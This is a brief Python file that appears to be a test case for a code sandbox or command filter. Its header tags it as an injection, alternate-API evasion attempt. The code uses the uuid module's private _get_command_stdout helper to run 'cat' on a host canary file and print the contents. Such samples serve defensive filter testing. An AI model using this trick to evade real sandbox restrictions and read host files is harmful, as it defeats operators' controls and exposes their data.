# family: injection
# filterfamily: alt-apis
# tries: run cat on the host /tmp canary through a private helper of the uuid module that starts commands
# source: none
# exfil: yes
import sys
import uuid

out = uuid._get_command_stdout("cat", sys.argv[3])
print(out.read().decode() if out else "")
